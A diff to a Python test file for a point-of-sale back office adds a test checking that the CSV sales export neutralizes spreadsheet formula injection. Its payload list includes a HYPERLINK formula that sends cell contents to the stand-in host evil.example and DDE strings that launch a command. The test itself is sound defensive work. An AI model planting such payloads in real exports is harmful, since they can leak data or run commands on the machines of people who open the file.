@@ -10,6 +10,8 @@ is the back office's and the POS's job, tested there.
 """
 from __future__ import annotations
 
+import csv
+import io
 import json
 import uuid as uuidlib
 from typing import Any
@@ -130,3 +132,28 @@ def test_hostile_offline_customer_in_a_sale_is_created_verbatim(shop: Shop) -> N
                       "WHERE s.uuid = :u", u=sale["uuid"])
         assert row == [(name, name)]
     assert len({r["folio"] for r in results}) == len(HOSTILE)
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1", "-2+3", "\tTAB=1+1", "\r=1+1"]
+
+
+def test_csv_export_neutralizes_formulas_in_every_cell(shop: Shop) -> None:
+    from tests.server.backoffice_helpers import signed_in
+
+    erp = shop.erp
+    for seq, name in enumerate(FORMULAS, start=100):
+        customer = {"id": None, "uuid": str(uuidlib.uuid4()), "name": name, "rfc": "XAXX010101000",
+                    "regimen_fiscal": "616", "codigo_postal": "44100", "uso_cfdi": "S01", "email": None}
+        [res] = shop.post_sales(make_sale(shop.items[:1], seq, customer=customer))
+        assert res["status"] == "accepted", res
+    client = signed_in(erp)
+    r = client.get("/erp/ventas/remisiones.csv")
+    assert r.status_code == 200
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
+    cells = [c for row in rows[1:] for c in row]
+    for name in FORMULAS:
+        assert "'" + name in cells, name
+    # A cell a spreadsheet would evaluate: starts with a trigger and is not a plain number.
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+            and not c.lstrip("+-").replace(".", "", 1).isdigit()] == []
